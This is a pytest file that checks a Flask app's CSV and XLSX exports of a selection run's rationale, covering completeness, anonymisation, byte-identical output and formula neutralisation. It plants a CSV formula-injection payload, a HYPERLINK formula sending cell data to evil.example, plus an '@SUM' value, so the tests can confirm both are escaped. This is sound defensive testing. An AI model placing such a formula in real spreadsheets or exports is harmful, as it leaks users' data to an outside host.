"""The selection rationale as CSV and XLSX: complete, replayable and inert in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pandas as pd
import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.labels import DECISION_LABELS
from app.models import SelectionRun, User
from app.rounds import LONDON, options
from tests.app.conftest import sign_in_as
from tests.app.helpers import Client, press
from tests.app.runs.helpers import decisions, run_id_from
from tests.app.world import SITES, Pool, build_pool

SNAKE = re.compile(r"^[a-z0-9]+(_[a-z0-9]+)+$|^[a-z_]+$")
OPTION_KEYS = ("nation", "area_type", "staff_band", "led_by", "pressures", "local_deprivation")
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'


@pytest.fixture
def evil_pool(app: Flask, make_user: Any) -> Pool:
    return build_pool(make_user, **{"England Two": EVIL, "Scotland Three": "@SUM(1+1)"})


@pytest.fixture
def run_id(client: Client, evil_pool: Pool, make_user: Any) -> int:
    sign_in_as(client, make_user("staff"))
    response = client.submit(f"/staff/rounds/{evil_pool.round.id}/runs", {"reserves": "2"})
    return run_id_from(response.headers["Location"])


def download(client: Client, url: str, mimetype: str) -> bytes:
    """The file the run page's button for ``url`` downloads."""
    response = press(client, url.split("/rationale")[0], url)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith(mimetype)
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "run-" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    return bytes(response.data)


def test_the_csv_has_every_decision_and_neutralises_formulas(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    body = download(client, f"/staff/runs/{run_id}/rationale.csv", "text/csv")

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == len(evil_pool.applications)
    stored = decisions(run_id)
    by_reference = {a.reference: a for a in evil_pool.applications}
    assert set(by_reference) == {r["Reference"] for r in rows}
    for row in rows:
        assert (
            row["Decision"] == DECISION_LABELS[stored[by_reference[row["Reference"]].id].decision]
        )
    assert sum(1 for r in rows if r["Decision"] == "Selected") == SITES
    organisations = {r["Organisation"] for r in rows}
    assert "'" + EVIL in organisations and EVIL not in organisations
    assert "'@SUM(1+1)" in organisations
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell
    )


def test_the_xlsx_opens_on_a_cover_and_says_everything_in_words(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    body = download(
        client,
        f"/staff/runs/{run_id}/rationale.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )

    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames[0] == "Cover" and book.sheetnames[-1] == "Technical details"
    assert book.sheetnames == ["Cover", "Decisions", "Mix", "Reviews summary", "Technical details"]
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        assert all(isinstance(h, str) and h for h in header), sheet.title
        assert not [h for h in header if SNAKE.search(h)], f"snake_case header in {sheet.title}"
        for row_cells in sheet.iter_rows():
            for cell in row_cells:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula"
    sheet = book["Decisions"]
    header = [c.value for c in sheet[1]]
    rows = [
        dict(zip(header, (c.value for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)
    ]
    assert len(rows) == len(evil_pool.applications)
    assert {"Rank", "Reference", "Organisation", "Nation", "Decision", "Reason"} <= set(header)
    assert "'" + EVIL in {r["Organisation"] for r in rows}
    # Ranks are whole numbers (1 to 10: everyone is eligible), scores the stored ones.
    stored = decisions(run_id)
    by_reference = {a.reference: a for a in evil_pool.applications}
    assert [r["Rank"] for r in rows] == list(range(1, len(rows) + 1))
    assert all(type(r["Rank"]) is int for r in rows)
    for row in rows:
        assert row["Weighted score"] == pytest.approx(
            stored[by_reference[row["Reference"]].id].score
        )
    # No cell of Decisions is a code: every option value of the round, every decision code.
    codes = {value for key in OPTION_KEYS for value, _ in options(evil_pool.round, key)}
    codes |= set(DECISION_LABELS) | {"True", "False", "yes", "no"}
    cells = {str(v) for r in rows for v in r.values() if v is not None}
    assert not cells & codes, cells & codes
    # Reason text wraps.
    reason = header.index("Reason") + 1
    assert sheet.cell(row=2, column=reason).alignment.wrap_text
    # The cover: the round's title (not its slug), the quota table, the price, UK times.
    cover = [[c for c in r] for r in book["Cover"].iter_rows(min_row=2, values_only=True)]
    text = " ".join(str(c) for r in cover for c in r if c)
    assert evil_pool.round.title in text and evil_pool.round.slug not in text
    # Reviewing not closed by staff: said so, not "Not recorded" (found walking the demo).
    assert "Reviewing closed" in [r[1] for r in cover]
    assert "Not closed yet: reviews can still be sent" in text and "Not recorded" not in text
    for section in ("How the sites were chosen", "Criteria and weights", "Price of balance"):
        assert section in [r[0] for r in cover]
    assert "Nation: Scotland" in text and "At least 2 sites" in text
    run = db.session.get(SelectionRun, run_id)
    started = run.created_at.astimezone(LONDON)
    assert f"{started.day} {started:%B %Y}, {started:%H:%M}" in text
    assert "T" + f"{run.created_at:%H:%M}" not in text  # no ISO times
    # Engine options only in the last sheet.
    technical = {
        r[0]: r[1] for r in book["Technical details"].iter_rows(min_row=2, values_only=True)
    }
    assert technical["Input fingerprint (SHA-256)"] == run.input_sha256
    assert technical["Seed for the random draw"] == str(run.parameters["seed"])
    assert "Seed" not in text and run.input_sha256 not in text
    # The mix: labels in the round's order, whole numbers.
    mix = pd.read_excel(io.BytesIO(body), sheet_name="Mix")
    nations = mix[mix["Dimension"] == "Nation"]
    assert list(nations["Category"]) == ["England", "Scotland", "Wales"]
    wales = nations[nations["Category"] == "Wales"].iloc[0]
    assert wales["Eligible applications"] == sum(
        1 for a in evil_pool.applications if a.nation == "wales"
    )
    assert wales["Quota"] == "At most 2 sites" and wales["Quota met"] == "Yes"
    reviews = pd.read_excel(io.BytesIO(body), sheet_name="Reviews summary")
    assert len(reviews) == len(evil_pool.applications)
    assert str(reviews["Reviews"].dtype).startswith("int")


def test_the_csv_keeps_size_bands_as_text_when_read_as_excel_would(
    client: Client, make_user: Any
) -> None:
    pool = build_pool(make_user)
    bands = ["1-9", "10-49", "50-249", "250+", "none"]
    for n, application in enumerate(pool.applications):
        application.size_band = bands[n % len(bands)]
    db.session.commit()
    sign_in_as(client, make_user("staff"))
    run = run_id_from(
        client.submit(f"/staff/rounds/{pool.round.id}/runs", {"reserves": "2"}).headers["Location"]
    )

    body = download(client, f"/staff/runs/{run}/rationale.csv", "text/csv")

    frame = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig")
    sizes = frame["Size (staff)"]
    assert pd.api.types.is_string_dtype(sizes)
    assert set(sizes) == {
        "1 to 9",
        "10 to 49",
        "50 to 249",
        "250 or more",
        "None: run by volunteers",
    }
    for value in sizes:  # nothing Excel would read as a date or a number
        assert pd.to_datetime(value, errors="coerce") is pd.NaT, value
        assert pd.to_numeric(value, errors="coerce") != pd.to_numeric(value, errors="coerce")
    assert str(frame["Rank"].dtype).startswith("int")  # 6, not 6.0


def test_the_anonymised_rationale_has_no_reference_name_or_typed_text(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    marker = "MARKER-Zebra-Quartz"
    press(client, f"/staff/runs/{run_id}/confirm", f"/staff/runs/{run_id}/confirm")
    stored = decisions(run_id)
    out = next(a for a in evil_pool.applications if stored[a.id].decision == "selected")
    into = next(a for a in evil_pool.applications if stored[a.id].decision != "selected")
    url = f"/staff/runs/{run_id}/override?remove={out.id}&add={into.id}"
    token = client.get_page(url).select_one("input[name=csrf_token]")["value"]
    reason = f"{marker}: {evil_pool.applications[0].organisation_name} asked"
    assert client.client.post(url, data={"csrf_token": token, "reason": reason}).status_code == 302

    body = download(
        client,
        f"/staff/runs/{run_id}/rationale.xlsx?anonymised=yes",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    book = load_workbook(io.BytesIO(body))
    text = " ".join(
        str(v) for ws in book.worksheets for r in ws.iter_rows(values_only=True) for v in r if v
    )
    assert marker not in text and "asked" not in text
    for a in evil_pool.applications:
        assert a.reference not in text
        assert (a.organisation_name or "") not in text
    staff_names = {u.name for u in db.session.scalars(select(User))}
    assert not [n for n in staff_names if n in text]
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        assert not [h for h in header if SNAKE.search(str(h))], sheet.title
    frame = pd.read_excel(io.BytesIO(body), sheet_name="Decisions")
    assert list(frame["Site"]) == [f"Site {n:03d}" for n in range(1, len(frame) + 1)]
    # No row is alone on nation + area + size + led-by.
    keys = frame[["Nation", "Rurality", "Size (staff)", "Led by"]].astype(str)
    assert keys.value_counts().min() >= 2
    # The staff's change is there, without its words.
    assert (frame["Reason"].str.startswith("Selected by staff decision")).sum() == 1
    assert (frame["Reason"].str.startswith("Taken out by staff decision")).sum() == 1


def test_the_xlsx_is_the_same_bytes_every_time_and_dated_by_the_run(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    url = f"/staff/runs/{run_id}/rationale.xlsx"
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

    first = download(client, url, xlsx)

    assert download(client, url, xlsx) == first
    # Dated by the run, not the clock, so a download next year gives the same bytes too.
    started = db.session.get(SelectionRun, run_id).created_at  # type: ignore[union-attr]
    created = load_workbook(io.BytesIO(first)).properties.created
    assert created == started.astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)
